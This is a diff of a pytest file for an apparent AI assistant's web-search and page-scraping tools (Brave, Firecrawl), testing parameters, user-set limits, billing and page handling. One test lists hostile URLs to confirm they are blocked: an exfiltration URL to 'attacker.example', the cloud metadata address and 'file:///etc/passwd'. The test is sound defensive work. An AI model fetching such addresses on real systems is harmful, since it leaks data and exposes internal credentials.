@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 from collections.abc import Callable
+from decimal import Decimal
 from typing import Any
 
 import pytest
@@ -80,15 +81,6 @@ async def test_a_tool_that_cannot_be_had_is_an_error_before_anything_is_sent(
     assert messages_api.requests == []
 
 
-def test_a_failed_search_tells_the_model_to_answer_from_its_knowledge(messages_api: Any, brave_api: Any, session: Any) -> None:
-    """Seed 000's sentence, and the engine's reason behind it."""
-    brave_api.fail(403)
-    answer = ask(session, messages_api, tool_use("web_search", {"query": "ruby author"}), provider="brave")
-    (result,) = results_of(messages_api)
-    assert result["is_error"] and answer.text == "Done."
-    assert words_of(result).startswith("Search unavailable. Please answer from your knowledge. (brave answered 403")
-
-
 def test_the_pair_has_the_schemas_of_the_specification(messages_api: Any, session: Any, google: Any) -> None:
     """Word for word; byte for byte the same once the tool's and the engine's name are taken out."""
     ask(session, messages_api, tools="pair")
@@ -157,3 +149,209 @@ def test_live_data_come_first_and_can_be_cited(messages_api: Any, brave_api: Any
     rich, page = results_of(messages_api)[0]["content"]
     assert rich["title"] == "Brave rich result: weather" and "temperature_c: 4.5" in rich["content"][0]["text"]
     assert rich["source"] == "https://search.brave.com/search?q=weather+berlin" and page["source"] == "https://a.example/"
+
+
+GUIDE = "https://docs.example.org/guide"
+CREDIT = Decimal("0.00099")
+
+
+@pytest.fixture
+def firecrawl(engine: Callable[[str], Any]) -> Any:
+    """The fake of Firecrawl."""
+    return engine("firecrawl")
+
+
+def ask_tiers(session: Any, messages_api: Any, *calls: Any, **options: Any) -> Any:
+    """Ask about the guide with the tools of the tiers."""
+    return ask(session, messages_api, *calls, **{"tools": "tiers", "question": f"What does {GUIDE} say?", **options})
+
+
+def brave_search(**given: Any) -> Any:
+    return tool_use("brave_search", {"query": "ruby author", **given})
+
+
+def scrape(url: str = GUIDE, **given: Any) -> Any:
+    return tool_use("firecrawl_scrape", {"url": url, **given})
+
+
+def scraped(markdown: str, url: str = GUIDE, **metadata: Any) -> dict[str, Any]:
+    """Return an answer of Firecrawl's for one page."""
+    fields = {"title": "The guide", "sourceURL": url, "url": url, "statusCode": 200, "creditsUsed": 1}
+    links = ["https://docs.example.org/next", "https://other.example/"]
+    return {"success": True, "data": {"markdown": markdown, "links": links, "metadata": fields | metadata}}
+
+
+def test_the_five_tools_have_the_specified_parameters(messages_api: Any, session: Any, firecrawl: Any) -> None:
+    """Names, defaults and bounds of seed 003; only what must be given is required."""
+    ask_tiers(session, messages_api)
+    schemas = {name: tool["input_schema"]["properties"] for name, tool in offered(messages_api).items()}
+    defaults = {name: {p: s.get("default") for p, s in properties.items()} for name, properties in schemas.items()}
+    context = {"maximum_number_of_tokens": 8192, "count": 20, "context_threshold_mode": "balanced", "country": "US"}
+    assert defaults == {
+        "brave_search": {
+            **{"query": None, "count": 5, "freshness": None, "country": "US", "search_lang": "en"},
+            **{"safe_search": "moderate", "goggles_id": None},
+        },
+        "brave_llm_context": {"query": None, **context, "freshness": None, "goggles": None},
+        "firecrawl_scrape": {"url": None, "formats": ["markdown", "links"], "location": None},
+        "firecrawl_search": {
+            **{"query": None, "limit": 3, "sources": ["web"], "categories": None, "tbs": None, "location": None},
+        },
+        "firecrawl_map": {"url": None, "limit": 50, "search": None, "include_subdomains": False, "location": None},
+    }
+    bounds = {(n, p): s["maximum"] for n, properties in schemas.items() for p, s in properties.items() if "maximum" in s}
+    assert bounds == {
+        ("brave_search", "count"): 20,
+        ("brave_llm_context", "maximum_number_of_tokens"): 32768,
+        ("brave_llm_context", "count"): 50,
+        ("firecrawl_search", "limit"): 10,
+        ("firecrawl_map", "limit"): 5000,
+    }
+    assert {tuple(tool["input_schema"]["required"]) for tool in offered(messages_api).values()} == {("query",), ("url",)}
+
+
+def test_a_search_sends_what_is_fixed_and_what_was_given(messages_api: Any, brave_api: Any, session: Any) -> None:
+    """Numbers out of bounds are brought into them, and null means the default: no round is lost to either."""
+    given = {"count": 99, "freshness": "pw", "country": "DE", "search_lang": "de", "safe_search": "off", "goggles_id": "tech"}
+    ask_tiers(session, messages_api, brave_search(count=None), brave_search(**given), tools="brave_search")
+    first, second = [request.values() for request in brave_api.requests]
+    fixed = {"extra_snippets": "true", "enable_rich_callback": "1"}
+    assert first.items() >= {"q": "ruby author", "count": "5", "country": "US", "search_lang": "en", **fixed}.items()
+    assert first["safesearch"] == "moderate" and not {"offset", "freshness", "goggles", "goggles_id"} & set(first)
+    wanted = {"count": "20", "freshness": "pw", "country": "DE", "search_lang": "de", "safesearch": "off"}
+    assert second.items() >= {**wanted, **fixed}.items() and "site=stackoverflow.com" in second["goggles"]
+
+
+def test_what_the_user_set_binds_the_model(messages_api: Any, brave_api: Any, session: Any) -> None:
+    """The strict filter cannot be loosened, and the domains of the question hold."""
+    session.settings.safe_search, session.settings.country = "strict", "FR"
+    brave_api.reply([hit("https://ruby-lang.org/", "Ruby", "Ruby."), hit("https://spam.example/", "Spam", "Spam.")])
+    ask_tiers(session, messages_api, brave_search(safe_search="off"), tools="brave_search", allowed_domains=["ruby-lang.org"])
+    sent = brave_api.requests[0].values()
+    assert (sent["safesearch"], sent["country"]) == ("strict", "FR") and "site=ruby-lang.org" in sent["goggles"]
+    assert "Spam" not in words_of(results_of(messages_api)[0])
+
+
+def test_a_context_call_gives_whole_passages(messages_api: Any, brave_api: Any, session: Any) -> None:
+    long = ("word " * 2_000).strip()
+    brave_api.reply([hit("https://a.example/x", "A page", long, extra=['{"price": 5}'])])
+    given = {"query": "ruby author", "maximum_number_of_tokens": 99, "count": 500, "context_threshold_mode": "strict"}
+    answer = ask_tiers(session, messages_api, tool_use("brave_llm_context", given), tools="brave_llm_context")
+    (request,) = brave_api.requests
+    fixed = {"maximum_number_of_urls": "20", "maximum_number_of_snippets": "50", "maximum_number_of_tokens_per_url": "4096"}
+    chosen = {"maximum_number_of_tokens": "1024", "count": "50", "context_threshold_mode": "strict", "country": "US"}
+    assert request.values().items() >= {**fixed, **chosen}.items() and request.path == "/res/v1/llm/context"
+    texts = [part["text"] for part in results_of(messages_api)[0]["content"][0]["content"]]
+    assert texts[0] == long and '{"price": 5}' in texts
+    assert "1 URL, ~2,5" in answer.trace[1].detail and answer.trace[1].cost_usd == Decimal("0.005")
+
+
+def test_a_page_comes_in_blocks_and_its_panel_is_its_markdown(messages_api: Any, firecrawl: Any, session: Any) -> None:
+    """Markdown as it came, then links and metadata; the links may be read next; a credit is booked."""
+    markdown = "# Guide\n\nFirst part.\n\n```sh\nrun\n\nit\n```\n\nLast part."
+    place = {"country": "DE", "languages": ["de"]}
+    firecrawl.reply(body=scraped(markdown, publishedTime="2026-03-01T00:00:00Z"))
+    then = scrape("https://docs.example.org/next", formats=["markdown", "summary"], location=place)
+    answer = ask_tiers(session, messages_api, scrape(), then=then)
+    sent = [{k: v for k, v in request.body.items() if k != "timeout"} for request in firecrawl.requests]
+    assert sent == [
+        {"url": GUIDE, "onlyMainContent": True, "formats": ["markdown", "links"]},
+        {"url": f"{GUIDE[:-5]}next", "onlyMainContent": True, "formats": ["markdown", "summary"], "location": place},
+    ]
+    block = messages_api.bodies[1]["messages"][-1]["content"][0]["content"][0]
+    assert (block["source"], block["title"]) == (GUIDE, "The guide")
+    texts = [part["text"] for part in block["content"]]
+    assert texts[:3] == ["# Guide\n\nFirst part.", "```sh\nrun\n\nit\n```", "Last part."]
+    assert texts[3].startswith("Links:\n- https://docs.example.org/next")
+    panel = answer.panels[0]
+    assert (panel.kind, panel.title) == ("markdown", f"firecrawl_scrape: {GUIDE}")
+    assert panel.content.startswith(markdown) and "## Links\n\n- https://docs.example.org/next" in panel.content
+    assert "## Metadata\n\n```yaml\ntitle: The guide" in panel.content and answer.trace[1].cost_usd == CREDIT
+
+
+@pytest.mark.parametrize(
+    ("page", "options", "told"),
+    [
+        (scraped("# Secret", statusCode=404), {}, "the page's server answered 404"),
+        (
+            scraped("Secret.", url="https://other.example/landing"),
+            {"allowed_domains": ["example.org"]},
+            "redirects to a domain that was not allowed",
+        ),
+    ],
+)
+def test_a_page_that_was_billed_and_is_none_is_an_error(
+    messages_api: Any, firecrawl: Any, session: Any, page: Any, options: Any, told: str
+) -> None:
+    firecrawl.reply(body=page)
+    answer = ask_tiers(session, messages_api, scrape(), **options)
+    (result,) = results_of(messages_api)
+    assert result["is_error"] and told in words_of(result) and "Secret" not in words_of(result)
+    assert answer.trace[1].cost_usd == CREDIT
+
+
+@pytest.mark.parametrize(
+    ("call", "why"),
+    [
+        (scrape("https://attacker.example/?data=secret"), "url_not_in_prior_context"),
+        (tool_use("firecrawl_map", {"url": "https://attacker.example"}), "url_not_in_prior_context"),
+        (tool_use("firecrawl_map", {"url": f"{GUIDE}?data=secret"}), "url_not_in_prior_context"),
+        (scrape("http://169.254.169.254/latest"), "169.254.169.254"),
+        (scrape("file:///etc/passwd"), "not an http:// or https://"),
+    ],
+)
+def test_what_nobody_wrote_down_is_not_read(messages_api: Any, firecrawl: Any, session: Any, call: Any, why: str) -> None:
+    """Addresses that the model made up, private ones and other schemes go nowhere."""
+    ask_tiers(session, messages_api, call, question=f"See {GUIDE} and http://169.254.169.254/latest and file:///etc/passwd")
+    (result,) = results_of(messages_api)
+    assert result["is_error"] and why in words_of(result) and "Failed to fetch URL" in words_of(result)
+    assert firecrawl.requests == []
+
+
+def test_a_search_with_pages_reads_them(messages_api: Any, firecrawl: Any, session: Any) -> None:
+    """The scrape options are always sent; a result without a page gives its snippet; the reported credits are booked."""
+    pages = [
+        {
+            "url": GUIDE,
+            "title": "Guide",
+            "description": "short",
+            "markdown": "# Guide\n\nAll.",
+            "links": ["https://x.example/"],
+        },
+        {"url": "https://b.example/", "title": "B", "description": "only this"},
+        {"url": "https://c.example/", "title": "C", "description": "kept", "markdown": "no", "metadata": {"statusCode": 403}},
+    ]
+    firecrawl.reply(body={"success": True, "data": {"web": pages}, "creditsUsed": 4})
+    chosen = {"sources": ["web", "news"], "categories": ["pdf"], "tbs": "qdr:w", "location": "Germany"}
+    answer = ask_tiers(
+        session, messages_api, tool_use("firecrawl_search", {"query": "window functions", "limit": 50, **chosen})
+    )
+    sent = firecrawl.requests[0].body
+    assert sent["scrapeOptions"] == {"formats": ["markdown", "links"], "onlyMainContent": True} and sent["limit"] == 10
+    assert sent.items() >= chosen.items()
+    texts = [[part["text"] for part in block["content"]] for block in results_of(messages_api)[0]["content"]]
+    assert texts == [["# Guide\n\nAll."], ["only this"], ["kept"]]
+    (panel,) = answer.panels
+    assert panel.kind == "markdown" and f"# Guide\n\n{GUIDE}\n\n# Guide\n\nAll." in panel.content
+    assert answer.trace[1].cost_usd == 4 * CREDIT and answer.searches == 1
+
+
+def test_a_site_is_mapped_from_an_address_on_it(messages_api: Any, firecrawl: Any, session: Any) -> None:
+    """The root of a known page's host, or of the domain above it, may be mapped; its addresses may then be read."""
+    firecrawl.links = [{"url": f"https://docs.example.org/{n}", "title": f"Page {n}", "description": "d"} for n in range(60)]
+    given = {"url": "https://example.org", "search": "guide", "include_subdomains": True, "limit": 9_999}
+    answer = ask_tiers(session, messages_api, tool_use("firecrawl_map", given), then=scrape("https://docs.example.org/59"))
+    sent = {k: v for k, v in firecrawl.requests[0].body.items() if k != "timeout"}
+    assert sent == {"url": "https://example.org", "limit": 5_000, "search": "guide", "includeSubdomains": True}
+    mapped = messages_api.bodies[1]["messages"][-1]["content"][0]
+    assert words_of(mapped).splitlines()[0] == "https://docs.example.org/0 — Page 0 — d"
+    assert answer.trace[1].detail.endswith("60 URLs discovered on example.org")
+    assert not results_of(messages_api)[0].get("is_error")
+
+
+def test_a_huge_page_is_cut_for_the_model_and_whole_in_the_panel(messages_api: Any, firecrawl: Any, session: Any) -> None:
+    firecrawl.pages[GUIDE] = "\n\n".join(f"Paragraph {n} of the guide." for n in range(10_000))
+    answer = ask_tiers(session, messages_api, scrape())
+    words = words_of(results_of(messages_api)[0])
+    assert len(words) < 90_000 and "characters: 79,9" in words
+    assert "Paragraph 9999 of the guide." in answer.panels[0].content
